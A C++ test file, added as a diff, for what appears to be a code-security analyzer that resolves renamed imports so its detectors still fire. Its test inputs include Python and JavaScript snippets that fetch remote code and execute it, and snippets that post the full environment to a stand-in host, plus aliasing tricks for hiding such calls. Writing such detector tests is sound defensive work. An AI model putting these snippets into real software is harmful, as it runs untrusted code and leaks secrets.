@@ -1,0 +1,78 @@
+// Renamed modules and functions are read back under their canonical names, so the detectors see
+// `sp.run`, `system(…)` and `process['env']` as `subprocess.run`, `os.system` and `process.env`.
+#include <catch2/catch.hpp>
+
+#include <algorithm>
+
+#include "analysis/code/aliases.h"
+#include "test_support.h"
+
+using namespace toolwall;
+using code::Language;
+using code::canonical_aliases;
+using code::test::detectors_of;
+using code::test::has_detector;
+using code::test::shipped_analyzer;
+
+namespace {
+
+void check(const char* path, const std::string& code, const char* detector, bool should_match) {
+  auto facts = shipped_analyzer()->analyze_write(path, code);
+  INFO(path << ":\n" << code << "\nfound: " << detectors_of(facts));
+  CHECK(has_detector(facts, detector) == should_match);
+}
+
+}  // namespace
+
+TEST_CASE("module aliases and from-imports are spelled canonically, line breaks kept") {
+  auto python = canonical_aliases(Language::python,
+                                  "import subprocess as sp, requests\nfrom os import system\n\nsp.run(x)\nsystem(y)\n");
+  REQUIRE(python);
+  CHECK(python->find("subprocess.run(x)") != std::string::npos);
+  CHECK(python->find("os.system(y)") != std::string::npos);
+  CHECK(python->find("import subprocess as sp") != std::string::npos);  // the defining line stays
+  CHECK(std::count(python->begin(), python->end(), '\n') == 5);
+  auto direct = canonical_aliases(Language::python, "import builtins\ngetattr(builtins, 'exec')(s)\n__import__('os').system(c)\n");
+  REQUIRE(direct);
+  CHECK(direct->find("exec(s)") != std::string::npos);
+  CHECK(direct->find("os.system(c)") != std::string::npos);
+  auto js = canonical_aliases(Language::javascript,
+                              "const { exec: run } = require('child_process');\nrun(c);\nglobalThis['eval'](s);\n");
+  REQUIRE(js);
+  CHECK(js->find("child_process.exec(c)") != std::string::npos);
+  CHECK(js->find("globalThis.eval(s)") != std::string::npos);
+  // nothing security-relevant renamed: no second reading
+  CHECK_FALSE(canonical_aliases(Language::python, "import numpy as np\nfrom os import path\nprint(np.ones(3))\n"));
+  CHECK_FALSE(canonical_aliases(Language::javascript, "const a = rows['id'];\nconst { x } = require('./y');\n"));
+  CHECK_FALSE(canonical_aliases(Language::go, "package a\n"));
+}
+
+TEST_CASE("renamed sinks and sources still reach the detectors") {
+  check("a.py", "import subprocess as sp, requests\ndef go(u):\n    sp.run(requests.get(u).text, shell=True)\n",
+        "code.exec.fetched-code", true);
+  check("a.py", "from os import system\nfrom urllib.request import urlopen\ndef go(u):\n    system(urlopen(u).read())\n",
+        "code.exec.fetched-code", true);
+  check("a.py", "import requests as r\ndef go(u):\n    exec(r.get(u).text)\n", "code.exec.fetched-code", true);
+  check("a.py", "import requests\ndef go(u):\n    __import__('os').system(requests.get(u).text)\n", "code.exec.fetched-code",
+        true);
+  check("a.py", "import os as o, requests\ndef go(u):\n    requests.post(u, json=dict(o.environ))\n",
+        "code.exfil.env-to-network", true);
+  check("a.js", "const env = process['env'];\nfetch('https://x.example.com', { method: 'POST', body: JSON.stringify(env) });\n",
+        "code.exfil.env-to-network", true);
+  check("a.js", "const axios = require('axios');\nconst { env } = process;\naxios.post('https://x.example.com', env);\n",
+        "code.exfil.env-to-network", true);
+  check("a.js",
+        "const { exec: run } = require('child_process');\n(async () => { run(await (await fetch(u)).text()); })();\n",
+        "code.exec.fetched-code", true);
+}
+
+TEST_CASE("renamed imports used for ordinary work stay ordinary") {
+  check("a.py", "from subprocess import run\nimport requests as r\ndef go(u):\n    data = r.get(u).json()\n    run(['git', 'status'])\n",
+        "code.exec.fetched-code", false);
+  check("a.py", "from os import environ\nimport requests\nPORT = int(environ.get('PORT', '8000'))\nrequests.get('https://x.example.com/health')\n",
+        "code.exfil.env-to-network", false);
+  check("a.py", "import requests\ndef app(environ, start_response):\n    requests.post(u, json={'path': environ['PATH_INFO']})\n",
+        "code.exfil.env-to-network", false);
+  check("a.js", "const env = process['env']['NODE_ENV'];\nfetch('/api', { method: 'POST', body: JSON.stringify({ env }) });\n",
+        "code.exfil.env-to-network", false);
+}
